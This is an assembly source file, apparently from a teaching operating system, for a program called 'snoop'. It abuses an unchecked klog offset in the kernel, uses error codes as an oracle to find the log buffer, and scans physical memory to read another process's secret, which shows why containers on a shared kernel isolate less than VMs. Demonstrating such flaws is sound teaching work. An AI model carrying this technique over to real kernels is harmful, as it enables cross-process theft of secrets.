; snoop: reads other processes' memory through the kernel's one unchecked
; system-call argument, the offset of klog (docs/guests.md, section 6). The
; kernel copies klog_buffer + offset for it, so an offset of
; (physical address - klog_buffer) reads any physical address the kernel
; maps. The snoop
;   1. finds where klog_buffer is. Nothing tells a process, but the
;      kernel's answers do: klog(buffer, -a, 1) works while a <= klog_buffer
;      (the source is then in memory) and fails once a is larger (the
;      source wraps below 0), so a binary search over a finds the address
;      bit by bit - an error code used as an oracle;
;   2. reads physical memory a page at a time from address 0, until the
;      kernel refuses (the end of memory), looking for the vault marker of
;      secret.s (include/vault.inc);
;   3. prints what it found, or that it found nothing:
;       snoop: the kernel log is at physical 0x00008b1c
;       snoop: found "the vault code is 7341" at physical 0x0000d4c8
;       snoop: no secret found (scanned 1024 pages)
; On a shared kernel it finds the secret of a process in any container. In
; a virtual machine the same bug reaches only that VM's own memory.
; It runs for a bounded time: at most one klog per page of memory.

        .include "include/syscalls.inc"
        .include "include/vault.inc"
        .org    USER_BASE
        .include "include/userlib.inc"

        .equ    CHUNK, 4096             ; bytes read per klog: one page
        .equ    PROBE_TOP, 1 << 22      ; the kernel maps at most 4 MiB: the log lies below

_start:
        ; 1. Where is the log? The largest a for which log - a is still in memory.
        li      r9, 0                   ; the log's address, found from the top bit down
        li      r10, PROBE_TOP
probe:
        or      r11, r9, r10            ; is the log at r11 or above?
        li      r1, chunk
        li      r2, 0
        sub     r2, r2, r11             ; offset -r11
        li      r3, 1
        SYS     SYS_KLOG
        cmpi    r0, 0
        blt     probe.lower             ; refused: log - r11 wrapped below 0
        mov     r9, r11
probe.lower:
        shri    r10, r10, 1
        cmpi    r10, 0
        bne     probe
        li      r1, msg_log             ; "snoop: the kernel log is at physical 0x00008b1c"
        call    put_str
        mov     r1, r9
        call    put_hex
        call    end_line

        ; 2. Every page of physical memory, from 0 up. The marker is compared
        ; in halves (word ^ A == B), so the snoop never holds it either.
        li      r12, VAULT_MARK1_A
        li      r13, VAULT_MARK1_B
        li      r14, VAULT_MARK2_A
        li      r7, VAULT_MARK2_B
        li      r11, 0                  ; the physical page being read
        li      r10, 0                  ; pages read
scan:
        li      r1, chunk
        sub     r2, r11, r9             ; the offset that makes klog read physical r11
        li      r3, CHUNK
        SYS     SYS_KLOG
        cmpi    r0, 0
        blt     nothing                 ; past the end of memory: the kernel refuses
        addi    r10, r10, 1
        li      r4, chunk
        li      r6, chunk + CHUNK
look:
        ld      r5, [r4]                ; the marker is 8-byte aligned, and so is the page
        xor     r5, r5, r12
        cmp     r5, r13
        beq     half
next:
        addi    r4, r4, 8
        cmp     r4, r6
        bltu    look
        addi    r11, r11, CHUNK
        jmp     scan
half:
        ld      r5, [r4 + 4]
        xor     r5, r5, r14
        cmp     r5, r7
        bne     next

        ; 3. Found: the text follows the marker.
        li      r1, msg_found           ; snoop: found "..." at physical 0x...
        call    put_str
        addi    r2, r4, 8               ; the text
        addi    r3, r2, VAULT_TEXT_MAX
        cmp     r3, r6
        bltu    text
        mov     r3, r6                  ; no further than the page that was read
text:
        cmp     r2, r3
        bgeu    text.end
        ldb     r1, [r2]
        cmpi    r1, 0
        beq     text.end
        call    put_char
        addi    r2, r2, 1
        jmp     text
text.end:
        li      r1, msg_at
        call    put_str
        li      r1, chunk
        sub     r1, r4, r1
        add     r1, r1, r11             ; its physical address
        call    put_hex
        call    end_line
        li      r1, 0
        call    exit

nothing:
        li      r1, msg_nothing         ; "snoop: no secret found (scanned 1024 pages)"
        call    put_str
        mov     r1, r10
        call    put_dec
        li      r1, msg_pages
        call    put_str
        call    end_line
        li      r1, 0
        call    exit

msg_log:
        .asciz  "snoop: the kernel log is at physical "
msg_found:
        .asciz  "snoop: found \""
msg_at:
        .asciz  "\" at physical "
msg_nothing:
        .asciz  "snoop: no secret found (scanned "
msg_pages:
        .asciz  " pages)"
        .align  8
chunk:                                  ; one page of physical memory at a time
        .space  CHUNK
